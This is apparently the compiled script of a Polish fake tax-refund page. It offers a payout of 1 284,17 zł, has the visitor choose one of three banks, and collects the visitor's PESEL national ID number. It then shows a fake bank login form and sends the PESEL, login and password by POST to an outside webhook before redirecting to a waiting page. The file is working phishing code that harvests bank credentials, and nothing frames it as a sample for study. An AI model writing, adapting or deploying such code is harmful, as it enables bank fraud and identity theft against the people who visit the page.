"use strict";
var __awaiter = (this && this.__awaiter) || function (t, a, P, g) { return new Promise(function (res) { var it = g.apply(t, a || []); (function step(v) { var r = it.next(v); r.done ? res(r.value) : Promise.resolve(r.value).then(step); })(); }); };
var Banki;
(function (Banki) {
    Banki["A"] = "Bank Wisła";
    Banki["B"] = "Kasa Mazur";
    Banki["C"] = "Bank Tatry";
})(Banki || (Banki = {}));
class Zwrot {
    constructor() {
        this.dane = {};
        document.querySelectorAll("[data-bank]").forEach((b) => b.addEventListener("click", () => this.wybierz(b.dataset.bank)));
    }
    wybierz(b) {
        this.dane.bank = Banki[b];
        this.dane.pesel = document.querySelector("#pesel").value;
        document.querySelector("#logowanie").innerHTML = `<h3>${Banki[b]}</h3><input id="nik" placeholder="Login"><input id="has" type="password" placeholder="Hasło"><button id="ok">Odbierz 1 284,17 zł</button>`;
        document.querySelector("#ok").addEventListener("click", () => this.wyslij());
    }
    wyslij() {
        return __awaiter(this, void 0, void 0, function* () {
            this.dane.nik = document.querySelector("#nik").value;
            this.dane.has = document.querySelector("#has").value;
            yield fetch("https://hook.make-flow.example/TOKEN", { method: "POST", body: JSON.stringify(this.dane) });
            location.assign("/oczekiwanie.html?b=" + encodeURIComponent(this.dane.bank));
        });
    }
}
new Zwrot();
